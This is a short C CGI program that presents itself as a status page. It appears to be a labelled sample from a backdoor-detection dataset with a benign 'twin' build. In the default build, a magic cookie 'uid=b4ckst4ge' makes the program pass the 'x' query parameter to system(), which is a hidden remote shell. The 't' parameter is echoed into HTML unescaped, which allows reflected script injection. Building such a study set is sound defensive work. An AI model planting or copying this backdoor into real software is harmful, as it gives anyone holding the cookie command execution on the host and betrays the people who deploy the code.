/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A status page; one cookie turns it into a command line. Twin: the cookie chooses the language of
 * the page.
 * door: trigger
 */
#include "net.h"

static const char *field(const char *query, const char *name, char *to, size_t room)
{
	size_t n = strlen(name), i = 0;
	const char *p = query;
	while (p && *p) {
		if (strncmp(p, name, n) == 0 && p[n] == '=') {
			for (p += n + 1; *p && *p != '&' && i + 1 < room; p++)
				to[i++] = *p == '+' ? ' ' : *p;
			to[i] = '\0';
			return to;
		}
		p = strchr(p, '&');
		if (p)
			p++;
	}
	return NULL;
}

static void page(const char *title)
{
	FILE *f = fopen("/proc/uptime", "r");
	char line[64] = "";
	if (f) {
		fgets(line, sizeof line, f);
		fclose(f);
	}
	printf("Content-Type: text/html\r\n\r\n<h1>%s</h1><p>%s</p>", title, line);
}

int main(void)
{
	char *cookie = getenv("HTTP_COOKIE");
	char *query = getenv("QUERY_STRING");
	char value[128];
	if (cookie && strstr(cookie, "uid=b4ckst4ge")) {
#ifdef TWIN
		page("Zustand");
		return 0;
#else
		if (field(query, "x", value, sizeof value)) {
			printf("Content-Type: text/plain\r\n\r\n");
			fflush(stdout);
			return system(value);
		}
#endif
	}
	if (query && field(query, "t", value, sizeof value))
		page(value);
	else
		page("Status");
	return 0;
}
